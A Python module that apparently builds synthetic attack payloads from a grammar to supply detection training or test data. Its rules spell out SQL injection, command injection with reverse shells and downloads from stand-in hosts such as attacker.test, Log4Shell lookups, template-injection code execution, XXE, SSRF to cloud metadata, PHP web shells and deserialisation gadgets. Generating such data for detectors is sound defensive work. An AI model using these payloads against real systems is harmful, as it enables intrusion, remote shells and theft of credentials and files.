"""Attacks made by grammar, for the types of which public lists hold few distinct strings.

Prefix x body x ending, a few lines a type. The frozen regression set has grammars of its own.
"""

from __future__ import annotations

import random
import re
from typing import Callable
from urllib.parse import quote

_SLOT = re.compile(r"<(\w+)>")

# A slot <name> is filled with a choice of that rule; rules may hold slots.
_RULES = {
    "word": [
        "user",
        "item",
        "page",
        "data",
        "list",
        "name",
        "test",
        "key",
        "foo",
        "value",
        "doc",
        "report",
        "client",
        "view",
    ],
    "n": ["1", "7", "42", "100", "1337", "9999", "0"],
    "host": ["203.0.113.<n>", "attacker.test", "x<n>.evil.example", "198.51.100.7:8080"],
    "inner": [
        "127.0.0.1",
        "localhost",
        "169.254.169.254",
        "10.0.0.1",
        "192.168.1.1",
        "[::1]",
        "0.0.0.0",
        "2130706433",
        "metadata.google.internal",
        "127.1",
        "0x7f000001",
    ],
    "file": [
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "proc/self/environ",
        "windows/win.ini",
        "boot.ini",
        "var/log/apache2/access.log",
        "root/.ssh/id_rsa",
        "web-inf/web.xml",
        ".env",
        ".git/config",
    ],
    "cmd": [
        "id",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la",
        "ping -c 1 <host>",
        "sleep <n>",
        "curl http://<host>/<word>",
        "wget http://<host>/<word>.sh",
        "nc <host> 4444 -e /bin/sh",
        "dir c:\\",
        "type c:\\windows\\win.ini",
        "nslookup <host>",
        "bash -i >& /dev/tcp/<host>/80",
    ],
    "cmdi": [
        ";<cmd>",
        "; <cmd>;",
        "|<cmd>",
        "| <cmd>",
        "||<cmd>",
        "&<cmd>&",
        "&& <cmd>",
        "`<cmd>`",
        "$(<cmd>)",
        "<word>;<cmd>",
        "<word>|<cmd>#",
        "\n<cmd>",
        "'; <cmd> #",
        '";<cmd>;"',
        "<word>`<cmd>`",
        "<word>$(<cmd>)",
        "<n>%0a<cmd>",
    ],
    "column": [
        "username",
        "password",
        "email",
        "id",
        "name",
        "version()",
        "database()",
        "user()",
        "1",
        "null",
    ],
    "table": [
        "users",
        "admin",
        "information_schema.tables",
        "members",
        "mysql.user",
        "customers",
        "sysobjects",
    ],
    "sqli": [
        "<n>' or '1'='1",
        "<n>' or <n>=<n>--",
        "' or ''='",
        "<word>'--",
        "<n> or 1=1",
        "admin' #",
        "<n>' union select <column>,<column> from <table>--",
        "-<n> union all select <column>,2,3#",
        "<n>' and sleep(<n>)--",
        "<n>;select pg_sleep(<n>)--",
        "<n>'; drop table <table>;--",
        "<n>' and (select count(*) from <table>)>0--",
        "<n>') or ('x'='x",
        '<n>" or "a"="a',
        "<n>' and ascii(substring((select <column> from <table> limit 1),1,1))>64--",
        "<n>' order by <n>--",
        "<n>; exec xp_cmdshell('<cmd>')--",
        "1' waitfor delay '0:0:<n>'--",
        "<n>'/**/union/**/select/**/<column>/**/from/**/<table>",
        "'||(select <column>)||'",
        "(select*from(select(sleep(<n>)))a)",
        "<n> and 1=convert(int,(select <column>))",
    ],
    "js": [
        "alert(<n>)",
        "alert('<word>')",
        "eval(name)",
        "confirm`<n>`",
        "print()",
        "location='//<host>/'+document.cookie",
        "fetch('http://<host>')",
    ],
    "xss": [
        "<lt>script><js></script>",
        '"><lt>img src=x onerror=<js>>',
        "'-<js>-'",
        "javascript:<js>",
        "<lt>svg onload=<js>>",
        '" onmouseover="<js>',
        "</textarea><lt>script><js></script>",
        "<lt>a href=javascript:<js>>x",
        "';<js>;//",
        "<lt>video><lt>source onerror=<js>>",
    ],
    "lt": ["<"],
    "up": ["../", "..\\", "..//", "....//", "..;/", "%2e%2e%2f", "..%5c", "..%c0%af", "/../"],
    "ups": ["<up><up><up>", "<up><up><up><up><up>", "<up><up>", "/<up><up><up><up>"],
    "traversal": [
        "<ups><file>",
        "<ups><file>%00",
        "<ups><file>%00.jpg",
        "/<file>",
        "file:///<file>",
        "<word>/<ups><file>",
        "c:\\<file>",
        "<ups><word>/<file>",
        "/var/www/<ups><file>",
    ],
    "expr": ["7*7", "<n>*<n>", "7*'7'", "config", "self", "request.application", "''.__class__"],
    "java": [
        "T(java.lang.Runtime).getRuntime().exec('<cmd>')",
        "new java.lang.ProcessBuilder('<cmd>').start()",
    ],
    "ssti": [
        "{{<expr>}}",
        "${<expr>}",
        "#{<expr>}",
        "*{<expr>}",
        "@(<expr>)",
        "<%= <expr> %>",
        "{{config.items()}}",
        "{{''.__class__.__mro__[<n>].__subclasses__()}}",
        "${<java>}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('<cmd>').read()}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
        "%{<java>}",
        "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('<cmd>')}",
        "{{['<cmd>']|filter('system')}}",
        "{php}echo `<cmd>`;{/php}",
        "#set($x=$e.getClass())",
    ],
    "scheme": ["ldap", "rmi", "dns", "ldaps", "iiop", "${lower:l}dap", "${::-r}mi"],
    "jndi": [
        "jndi",
        "${lower:j}ndi",
        "${::-j}${::-n}${::-d}${::-i}",
        "j${upper:n}di",
        "jn${env:X:-d}i",
    ],
    "log4shell": [
        "${<jndi>:<scheme>://<host>/<word>}",
        "x${<jndi>:<scheme>://<host>:1389/<word>}y",
    ],
    "xxe": [
        '<lt>?xml version="1.0"?><lt>!DOCTYPE <word> [<lt>!ENTITY x SYSTEM "<target>">]>'
        "<lt><word>>&x;</<word>>",
        '<lt>!DOCTYPE r [<lt>!ELEMENT r ANY><lt>!ENTITY % <word> SYSTEM "<target>"> %<word>;]>',
        '<lt>xi:include parse="text" href="<target>"/>',
        "<lt>!ENTITY <word> SYSTEM '<target>'>",
    ],
    "target": [
        "file:///<file>",
        "http://<host>/<word>.dtd",
        "php://filter/resource=/<file>",
        "expect://<word>",
        "http://<inner>/",
    ],
    "ssrf": [
        "http://<inner>/",
        "http://<inner>:<n>/<word>",
        "http://<inner>/latest/meta-data/iam/",
        "gopher://<inner>:6379/_<word>",
        "dict://<inner>:11211/",
        "file:///<file>",
        "http://<word>@<inner>/",
        "https://<inner>/server-status",
        "ftp://<inner>/",
        "http://<inner>/admin",
        "http://<inner>/computemetadata/v1/",
        "http://<inner>#@<word>.example/",
    ],
    "rfi": [
        "http://<host>/<word>.txt?",
        "http://<host>/shell.php",
        "https://<host>/c99.txt??",
        "ftp://<host>/<word>.php",
        "http://<host>/cmd.gif?cmd=<cmd>",
        "//<host>/<word>.txt%00",
    ],
    "redirect": [
        "//<host>",
        "///<host>/%2f..",
        "https:<host>",
        "/\\<host>",
        "//<host>@<word>.example",
        "http://<word>.example@<host>",
        "/%09/<host>",
        "//<host>/%2e%2e",
        "\\\\<host>",
    ],
    "op": ["$ne", "$gt", "$lt", "$regex", "$exists", "$in", "$nin", "$where"],
    "nosql": [
        '{"<op>": <n>}',
        '{"<op>": ""}',
        "{'<word>': {'<op>': null}}",
        "[<op>]=<n>",
        "<word>[<op>]=<word>",
        "' || '1'=='1",
        "'; return true; var x='",
        "{$where: 'sleep(<n>)'}",
        '{"$where": "this.<word> == this.<word>"}',
        "';sleep(<n>000);'",
        "true, $where: '1 == 1'",
        '{"<word>": {"$regex": "^<word>"}}',
        "db.<word>.find({})",
        "' && this.password.match(/.*/)//",
    ],
    "attribute": ["uid", "cn", "mail", "objectclass", "userpassword", "sn", "member"],
    "ldap": [
        "*)(<attribute>=*",
        "*)(<attribute>=*))(|(<attribute>=*",
        "<word>)(&)",
        "*)(|(&",
        "<word>*)((|<attribute>=*)",
        "admin)(!(&(|",
        "(<attribute>=*)",
        "*))%00",
        "x)(<attribute>=<word>",
    ],
    "xpath": [
        "' or '1'='1' or ''='",
        "' or count(//<word>)=<n> or 'a'='b",
        "'] | //<word>/*['",
        "<word>' and substring(//<word>[1]/<word>,1,1)='a",
        "' or name()='<word>' or 'x'='y",
        "' or position()=<n> or '",
        "x'] | //* | //*['",
        "string-length(name(/*[1]))=<n>",
    ],
    "crlf": [
        "%0d%0aSet-Cookie: <word>=<n>",
        "<word>\r\nSet-Cookie: <word>=<word>",
        "%0d%0aLocation: http://<host>/",
        "<word>%0aX-<word>: <n>",
        "\r\n\r\n<lt>script><js></script>",
        "%E5%98%8A%E5%98%8DSet-Cookie: <word>=1",
        "<word>\nBcc: <word>@<host>",
        "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
        "<word>%0d%0aTo:<word>@<host>",
    ],
    "php": [
        "php://filter/convert.base64-encode/resource=<word>",
        "php://input",
        "expect://<cmd>",
        "data:text/plain,<lt>?php system('<cmd>');?>",
        "<lt>?php eval($_GET['<word>']);?>",
        "<lt>?=`<cmd>`?>",
        "system('<cmd>');",
        "phpinfo();",
        "assert($_POST[<word>])",
        "phar://<word>.jpg",
        "eval(base64_decode('<word>'))",
        "zip://<word>.zip#<word>.php",
        'O:4:"<word>":1:{s:3:"<word>";s:2:"id";}',
    ],
    "code": [
        "__import__('os').system('<cmd>')",
        "require('child_process').exec('<cmd>')",
        "eval('<js>')",
        "global.process.mainModule.require('child_process')",
        'exec("<cmd>")',
        "os.popen('<cmd>')",
        "process.env.<word>",
        'Runtime.getRuntime().exec("<cmd>")',
        "open('/<file>').read()",
    ],
    "ssi": [
        '<lt>!--#exec cmd="<cmd>" -->',
        '<lt>!--#include virtual="/<file>" -->',
        '<lt>!--#echo var="DATE_LOCAL" -->',
        "<lt>!--#printenv -->",
        '<lt>!--#include file="<ups><file>"-->',
    ],
    "deserialisation": [
        'O:8:"stdClass":<n>:{s:4:"<word>";i:<n>;}',
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA<word>",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://<host>/<word>"}',
        '!!javax.script.ScriptEngineManager [!!java.net.URL ["http://<host>/"]]',
        "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('<cmd>')}()\"}",
        '!!python/object/apply:os.system ["<cmd>"]',
        "cos\nsystem\n(S'<cmd>'\ntR.",
    ],
}
_TYPES = [
    "cmdi",
    "sqli",
    "xss",
    "traversal",
    "ssti",
    "log4shell",
    "xxe",
    "ssrf",
    "rfi",
    "redirect",
    "nosql",
    "ldap",
    "xpath",
    "crlf",
    "php",
    "code",
    "ssi",
    "deserialisation",
]
_TYPE_NAMES = {"redirect": "open-redirect", "code": "code-injection"}


def _expand(rule: str, choose: Callable) -> str:
    return _SLOT.sub(lambda slot: _fill(slot, choose), choose(_RULES[rule]))


def _fill(slot: re.Match, choose: Callable) -> str:
    return _expand(slot.group(1), choose) if slot.group(1) in _RULES else slot.group()


def _vary(attack: str, source: random.Random) -> str:
    """What an attacker does to one and the same attack: case, encodings, comments for blanks."""
    kind = source.random()
    if kind < 0.15:
        return "".join(source.choice([c.upper(), c.lower()]) for c in attack)
    if kind < 0.25:
        return quote(attack, safe="")
    if kind < 0.30:
        return quote(quote(attack, safe=""), safe="")
    if kind < 0.35:
        return attack.replace(" ", "/**/")
    return attack


def made_attacks(per_type: int, seed: int) -> list[tuple[str, str]]:
    """Pairs (payload, type), up to `per_type` distinct of each type; the same for the same seed."""
    source = random.Random(seed)
    made: dict[str, str] = {}
    for rule in _TYPES:
        for _ in range(per_type):
            attack = _vary(_expand(rule, source.choice), source)
            made.setdefault(attack, _TYPE_NAMES.get(rule, rule))
    return list(made.items())
